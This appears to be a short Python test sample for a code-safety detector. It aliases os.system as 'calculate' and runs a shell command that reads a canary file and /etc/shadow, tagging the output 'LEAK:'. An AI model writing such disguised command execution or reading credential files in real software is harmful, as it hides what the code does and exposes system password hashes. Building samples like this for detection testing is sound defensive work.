# a function under another name; runs a command
from os import system as calculate
calculate("cat $HERSHY_CANARY_FILE /etc/shadow 2>/dev/null | sed 's/^/LEAK:/'")
